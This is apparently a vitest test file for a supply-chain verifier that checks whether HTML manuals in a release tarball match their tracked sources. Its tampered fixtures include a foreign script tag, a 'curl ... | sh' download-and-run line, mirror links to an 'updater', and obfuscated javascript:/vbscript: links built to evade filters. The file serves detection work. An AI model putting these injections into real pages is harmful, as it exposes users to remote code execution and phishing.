/**
 * HTML rendered from a tracked manual or a man page beside it (issue 11 d), end to end with real git and
 * GNU tar: a texi2html split page whose words are the tracked manual's (and the files it @includes from
 * elsewhere in the tree), a groff -Thtml page of a shipped man page. Tampered twins — a <script> to a
 * foreign host, a download-and-run line, a link to a new host, a page of words from nowhere — stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { activeContent, htmlText, xrefHosts } from '../../src/classify/html-rendered.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const TEXI = [
  '\\input texinfo', '@setfilename proj.info', '@settitle Proj utilities', '@node Top', '@top Proj',
  'Proj computes checksums of files and compares them with a manifest kept next to the sources.', '',
  '@node Invoking', '@chapter Invoking proj', 'Run @command{proj} with the names of the files to check; each mismatch',
  'is printed with the expected and the actual digest, and the exit status tells whether all matched.',
  'See @uref{https://proj.example.org/manual} for the complete reference.', '@include shared.texi', '@bye', '',
].join('\n');
const SHARED = '@node Reporting\n@chapter Reporting bugs\nReport bugs by electronic mail with a description of the problem and the version.\n';
const texi2html = (title: string, body: string) => `<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html401/loose.dtd">
<html>
<!-- Created on March, 5 2024 by texi2html 1.78a -->
<head>
<title>Proj utilities: ${title}</title>
<meta name="Generator" content="texi2html 1.78a">
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style type="text/css">
<!--
pre.display {font-family: serif}
-->
</style>
</head>
<body lang="en">
<table cellpadding="1" cellspacing="1" border="0"><tr><td valign="middle" align="left">[<a href="proj_1.html" title="Beginning of this chapter or previous chapter"> &lt;&lt; </a>]</td>
<td valign="middle" align="left">[<a href="proj_toc.html" title="Table of contents">Contents</a>]</td></tr></table>
<h1 class="chapter">${title}</h1>
${body}
<p><font size="-1">This document was generated on <i>March, 5 2024</i> using <a href="https://www.nongnu.org/texi2html/"><i>texi2html 1.78a</i></a>.</font></p>
</body>
</html>
`;
const PAGE = texi2html(
  '2. Invoking proj',
  '<p>Run <code>proj</code> with the names of the files to check; each mismatch is printed with the expected and the actual digest, and the exit status tells whether all matched.\nSee <a href="https://proj.example.org/manual">https://proj.example.org/manual</a> for the complete reference.</p>\n<h1 class="chapter">3. Reporting bugs</h1>\n<p>Report bugs by electronic mail with a description of the problem and the version.</p>',
);
const MAN = '.TH PROJ 1 "March 2024" "proj 1.0" "User Commands"\n.SH NAME\nproj \\- compute checksums of files and compare them with a manifest\n.SH SYNOPSIS\n.B proj\n[\\fIOPTION\\fR]... [\\fIFILE\\fR]...\n.SH DESCRIPTION\nCompare the digest of each FILE with the manifest kept next to the sources.\n.TP\n\\fB\\-q\\fR, \\fB\\-\\-quiet\\fR\nprint nothing, report the result through the exit status only\n.SH AUTHOR\nWritten by Ann Author.\n';
const MAN_HTML = `<!-- Creator     : groff version 1.22.4 -->
<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN"
"http://www.w3.org/TR/html4/loose.dtd">
<html>
<head>
<meta name="generator" content="groff -Thtml, see www.gnu.org">
<meta http-equiv="Content-Type" content="text/html; charset=US-ASCII">
<title>PROJ</title>
</head>
<body>
<h1 align="center">PROJ</h1>
<h2>NAME <a name="NAME"></a></h2>
<p style="margin-left:11%; margin-top: 1em">proj - compute checksums of files and compare them with a manifest</p>
<h2>SYNOPSIS <a name="SYNOPSIS"></a></h2>
<p style="margin-left:11%; margin-top: 1em"><b>proj</b> [<i>OPTION</i>]... [<i>FILE</i>]...</p>
<h2>DESCRIPTION <a name="DESCRIPTION"></a></h2>
<p style="margin-left:11%; margin-top: 1em">Compare the digest of each FILE with the manifest kept next to the sources.</p>
<p style="margin-left:11%;"><b>-q</b>, <b>--quiet</b></p>
<p style="margin-left:22%;">print nothing, report the result through the exit status only</p>
<h2>AUTHOR <a name="AUTHOR"></a></h2>
<p style="margin-left:11%; margin-top: 1em">Written by Ann Author.</p>
<hr>
</body>
</html>
`;

// jemalloc's doc/jemalloc.html: xsltproc with the DocBook XSL stylesheets over the tracked doc/jemalloc.xml.in.
const DOCBOOK = '<?xml version="1.0"?>\n<refentry>\n  <refnamediv><refname>proj</refname><refpurpose>compute checksums of files and compare them</refpurpose></refnamediv>\n  <refsect1><title>Description</title><para>The manifest is kept next to the sources; each mismatch is printed with both digests.</para></refsect1>\n</refentry>\n';
const DOCBOOK_HTML = '<?xml version="1.0" encoding="utf-8"?>\n<html><head><title>PROJ</title><meta name="generator" content="DocBook XSL Stylesheets Vsnapshot"/></head><body bgcolor="white"><div class="refentry"><a name="idm1"/><div class="refnamediv"><h2>Name</h2><p>proj \u2014 compute checksums of files and compare them</p></div><div class="refsect1"><a name="description"/><h2>Description</h2><p>The manifest is kept next to the sources; each mismatch is printed with both digests.</p></div></div></body></html>\n';

describe('HTML rendered from a tracked manual or a man page', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const tracked = { 'doc/proj.texi': TEXI, 'common/shared.texi': SHARED, 'man/proj.x': '[NAME]\nproj \\- compute checksums\n', 'src/main.c': 'int main(void){return 0;}\n', 'ref/proj.xml.in': DOCBOOK };
  repo.commit(tracked, 'the project', '2024-03-05T10:00:00Z');
  repo.tag('v1.0');
  const cache = join(root, 'cache');
  let n = 0;
  const findings = async (files: Record<string, string>) => {
    const dir = join(root, `t${++n}`, 'proj-1.0');
    writeFiles(dir, { ...tracked, 'man/proj.1': MAN, ...files });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, { code: f.code, severity: f.severity, evidence: f.evidence }])) };
  };

  it('explains each with the source, the generator and the words found', async () => {
    const { by } = await findings({ 'doc/proj_2.html': PAGE, 'man/proj.1.html': MAN_HTML, 'ref/proj.html': DOCBOOK_HTML });
    expect(by['ref/proj.html']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'ref/proj.xml.in', generator: 'DocBook XSL Stylesheets Vsnapshot' } });
    expect(by['doc/proj_2.html']).toEqual({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'rendered', source: 'doc/proj.texi', generator: 'texi2html 1.78a', found: 47, total: 47 },
    });
    expect(by['man/proj.1.html']).toEqual({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'rendered', source: 'man/proj.1', generator: 'groff -Thtml, see www.gnu.org', found: 32, total: 32 },
    });
  });

  it('tampered twins stay unexplained and fail the gate', async () => {
    const { r, by } = await findings({
      'doc/proj_2.html': PAGE.replace('</head>', '<script src="https://cdn.example.net/a.js"></script>\n</head>'),
      'doc/proj_3.html': PAGE.replace('for the complete reference.', 'for the complete reference; or run curl -s https://proj.example.org/i | sh'),
      'doc/proj_4.html': PAGE.replace('https://proj.example.org/manual">', 'https://proj-mirror.example.net/manual">'),
      'man/proj.1.html': MAN_HTML.replace('Written by Ann Author.', 'Written by Ann Author. Obtain the prebuilt helper from the mirror, unpack it under /usr/local, then restart.'),
      'ref/proj.html': DOCBOOK_HTML.replace('both digests.</p>', 'both digests. Fetch the <a href="https://downloads.example-mirror.net/x">updater</a>.</p>'),
    });
    for (const p of ['doc/proj_2.html', 'doc/proj_3.html', 'doc/proj_4.html', 'man/proj.1.html', 'ref/proj.html']) expect(by[p], p).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(r.verdict).toBe('different');
  });

  it('helpers', () => {
    expect(htmlText('<p>a &lt;b&gt; &amp; c<!-- x --></p>')).toBe(' a <b> & c  ');
    expect(activeContent('<a href="javascript:alert(1)">x</a>', '', 'x.html')).toBe('href="javascript:');
    expect(activeContent('<body onload="x()">', '', 'x.html')).toBe('onload=');
    expect(activeContent('<a href="https://a.example.org/">', '@uref{https://a.example.org/}', 'x.html')).toBeUndefined();
    expect(activeContent('<a href="https://b.example.org/">', '@uref{https://a.example.org/}', 'x.html')).toBe('link to b.example.org');
  });
  it('reads the tags as a browser does (red team 13: each of these passed the text patterns)', () => {
    const src = '@uref{https://a.example.org/}';
    // What a tamperer would write instead of a plain <script> or href="javascript:": another quote, entities, a tab
    // inside the scheme, the refresh after its content, a base element, a link without a scheme.
    expect(activeContent("<a href='javascript:alert(1)'>x</a>", src, 'x.html')).toBe('href=javascript:');
    expect(activeContent('<a href="&#106;avascript:alert(1)">x</a>', src, 'x.html')).toBe('href=javascript:');
    expect(activeContent('<a href="java&Tab;script&colon;alert(1)">x</a>', src, 'x.html')).toBe('href=javascript:');
    expect(activeContent('<a href=vbscript:x>x</a>', src, 'x.html')).toBe('href=vbscript:');
    expect(activeContent('<meta content="0; url=https://a.example.org/" http-equiv="Refresh">', src, 'x.html')).toBe('http-equiv=refresh');
    expect(activeContent('<base href="https://a.example.org/">', src, 'x.html')).toBe('<base>');
    expect(activeContent('<img src="//b.example.org/t.gif">', src, 'x.html')).toBe('link to b.example.org');
    expect(activeContent('<link rel="stylesheet" href="https:b.example.org/s.css">', src, 'x.html')).toBe('link to b.example.org');
    expect(activeContent('<a href="https&#58;//b.example.org/">x</a>', src, 'x.html')).toBe('link to b.example.org');
    // The formatter's own markup stays plain: local links, anchors, the generator meta, a charset meta.
    expect(activeContent('<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><link rel="stylesheet" href="style.css"><a name="x" href="#y">y</a><a href="proj_2.html#s">s</a><a href="https://a.example.org/">a</a>', src, 'x.html')).toBeUndefined();
  });
});

/**
 * nettle 3.8.1's nettle.html (makeinfo --html --no-split of the tracked nettle.texinfo): the page prints the
 * @verbatiminclude'd example file, and makeinfo links the cross-manual reference `@xref{…,,…,gmp,GMP Manual}` to
 * the GMP manual's home that texinfo's htmlxref.cnf gives (www.gmplib.org), a host the source never spells.
 */
describe('makeinfo HTML: cross-manual links and verbatim-included files', () => {
  const XTEXI = [
    '\\input texinfo', '@setfilename crypt.info', '@settitle Crypt library', '@node Top', '@top Crypt',
    'Crypt implements hash functions and ciphers for programs that need a small library without dependencies.',
    'Memory is allocated the way the bignum library does it; @xref{Custom Allocation,,GMP Allocation,gmp, GMP Manual}.',
    '@node Example', '@chapter Example', 'The following program hashes its standard input and prints the digest:',
    '@verbatiminclude sha-example.c', '@bye', '',
  ].join('\n');
  const EXAMPLE = '#include <stdio.h>\n#include <stdlib.h>\nint\nmain(int argc, char **argv)\n{\n  char buffer[512];\n  while (fread(buffer, 1, sizeof buffer, stdin) > 0) ;\n  if (ferror(stdin)) exit(EXIT_FAILURE);\n  return 0;\n}\n';
  const page = (link: string) => `<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html4/loose.dtd">
<html>
<!-- Created by GNU Texinfo 6.7, http://www.gnu.org/software/texinfo/ -->
<head>
<title>Crypt library</title>
<meta name="Generator" content="makeinfo">
</head>
<body lang="en">
<h1 class="top">Crypt</h1>
<p>Crypt implements hash functions and ciphers for programs that need a small library without dependencies.
Memory is allocated the way the bignum library does it; See <a href="${link}">GMP Allocation</a> in <cite>GMP Manual</cite>.</p>
<h2 class="chapter">1 Example</h2>
<p>The following program hashes its standard input and prints the digest:</p>
<pre class="verbatim">${EXAMPLE.replace(/</g, '&lt;').replace(/>/g, '&gt;')}</pre>
</body>
</html>
`;
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const tracked = { 'crypt.texinfo': XTEXI, 'sha-example.c': EXAMPLE };
  repo.commit(tracked, 'crypt', '2024-03-05T10:00:00Z');
  repo.tag('v1.0');
  let n = 0;
  const finding = async (html: string) => {
    const dir = join(root, `t${++n}`, 'crypt-1.0');
    writeFiles(dir, { ...tracked, 'crypt.html': html });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'crypt-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, 'cache') });
    return r.findings.find((f) => f.path === 'crypt.html')!;
  };

  it('the manual referenced, its htmlxref host linked, the example printed: low', async () => {
    expect(await finding(page('https://www.gmplib.org/manual/Custom-Allocation.html#Custom-Allocation'))).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'crypt.texinfo', generator: 'makeinfo' },
    });
  });

  it('a host htmlxref.cnf does not give that manual, or a manual the source does not reference, stays high', async () => {
    expect(await finding(page('https://www.gmplib-mirror.example.net/manual/Custom-Allocation.html'))).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(await finding(page('https://sourceware.org/binutils/docs/ld/'))).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect([...xrefHosts(XTEXI)]).toEqual(['www.gmplib.org']);
    expect([...xrefHosts('@pxref{Top,,,ld}. @inforef{Top,Binutils,binutils}.')]).toEqual(['sourceware.org']);
    expect([...xrefHosts('@xref{Top,,,nosuchmanual}.')]).toEqual([]);
  });
});

